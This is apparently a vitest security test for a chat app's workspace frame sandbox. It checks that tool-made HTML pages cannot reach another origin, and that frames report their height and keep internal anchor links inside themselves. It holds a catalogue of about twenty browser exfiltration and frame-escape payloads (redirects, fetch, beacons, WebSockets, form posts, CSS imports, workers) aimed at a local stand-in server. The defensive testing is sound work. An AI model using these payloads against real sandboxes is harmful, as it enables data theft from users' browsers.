// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are templates of the page that attacks
import { once } from 'node:events';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { House } from './house';

const house = House.forThisFile();

/** What somebody else's site on this machine was asked for. Frames of the page may come from there. */
const asked: string[] = [];
let stranger: HttpServer;
let elsewhere: string;

beforeAll(async () => {
  stranger = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('Content-Type', 'text/html').end('<p>somebody else');
  });
  stranger.listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
});
afterAll(() => stranger.close());

/** An HTML file of a workspace, in a frame that can be loaded. */
async function frame(name: string, html: string): Promise<string> {
  const { server } = house;
  await server.request(`/chats/default/workspace/files/${name}.html`, { method: 'PUT', body: html });
  const { id: chat_id } = await server.json<{ id: string }>('/chats/default');
  const wanted = { kind: 'file', chat_id, path: `${name}.html` };
  return (await server.json<{ url: string }>('/frames', wanted)).url;
}

/** Ways to carry something out of a page, by the path that would be asked for. */
const ways: Record<string, string> = {
  location: "location.href = at('location')",
  replace: "location.replace(at('replace'))",
  parent: "parent.location.href = at('parent')",
  top: "top.location.href = at('top')",
  fetch: "fetch(at('fetch'), { mode: 'no-cors' })",
  image: "new Image().src = at('image')",
  beacon: "navigator.sendBeacon(at('beacon'))",
  events: "new EventSource(at('events'))",
  socket: "new WebSocket(at('socket').replace('http', 'ws'))",
  refresh: 'add(`<meta http-equiv="refresh" content="0;url=${at(\'refresh\')}">`)',
  frame: 'add(`<iframe src="${at(\'frame\')}"></iframe>`)',
  nested: "add(`<iframe srcdoc=\"<script>location='${at('nested')}'<\\/script>\"></iframe>`)",
  window: "window.open(at('window'))",
  link: 'add(`<a href="${at(\'link\')}" ping="${at(\'ping\')}">x</a>`).click()',
  download: 'add(`<a href="${at(\'download\')}" download>x</a>`).click()',
  form: 'add(`<form method="post" action="${at(\'form\')}"></form>`).submit()',
  prefetch: 'add(`<link rel="prefetch" href="${at(\'prefetch\')}">`)',
  style: "add(`<style>@import '${at('style')}'</style>`)",
  background: "document.body.style.background = `url(${at('background')})`",
  worker: "new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}')`])))",
  data: "location.href = `data:text/html,<script>location='${at('data')}'<\\/script>`",
};

function attack(way: string): string {
  return `<!doctype html><html><head></head><body><p>x<script>
    const at = (path) => '${elsewhere}/' + path;
    const add = (html) => { document.body.insertAdjacentHTML('beforeend', html); return document.body.lastElementChild; };
    addEventListener('load', () => { try { ${way} } catch {} });
  </script></body></html>`;
}

test('nothing that a tool made gets out of its frame, though the page may frame the same site', async () => {
  const { page } = await house.visitor();
  const urls = await Promise.all(Object.entries(ways).map(([name, way]) => frame(name, attack(way))));
  await page.evaluate(async (urls) => {
    const loaded = urls.map((url) => {
      const element = document.createElement('iframe');
      const done = new Promise((resolve) => element.addEventListener('load', resolve));
      element.src = url;
      document.body.append(element);
      return done;
    });
    await Promise.all(loaded);
  }, urls);
  // Asked for last, so whatever else was to come has come.
  await page.evaluate(async (url) => {
    const element = document.createElement('iframe');
    const done = new Promise((resolve) => element.addEventListener('load', resolve));
    element.src = url;
    document.body.append(element);
    await done;
  }, `${elsewhere}/by-the-page`);
  expect(asked).toEqual(['/by-the-page']);
  expect(page.url()).toContain('/ui');
});

test('a frame tells how tall it is, and its links to places in itself stay in it', async () => {
  const { page } = await house.visitor();
  const html =
    '<!doctype html><style>body{margin:0}</style><a href="#there">go</a><div style="height:1500px"></div><p id="there">There';
  const url = await frame('places', html);
  const said = await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        const element = document.createElement('iframe');
        addEventListener('message', ({ source, data }) => {
          // The first word may come before everything is laid out.
          if (source === element.contentWindow && data.height > 1500) resolve(data);
        });
        element.src = url;
        element.style.cssText = 'position: fixed; inset: 0; z-index: 9999';
        document.body.append(element);
      }),
    url,
  );
  expect(said).toEqual({ type: 'pegboard:height', height: expect.any(Number) });
  expect((said as { height: number }).height).toBeGreaterThan(1500);
  const inner = page.frameLocator(`iframe[src="${url}"]`).frameLocator('iframe');
  await inner.getByRole('link', { name: 'go' }).click();
  await inner.locator('#there:target').waitFor();
});
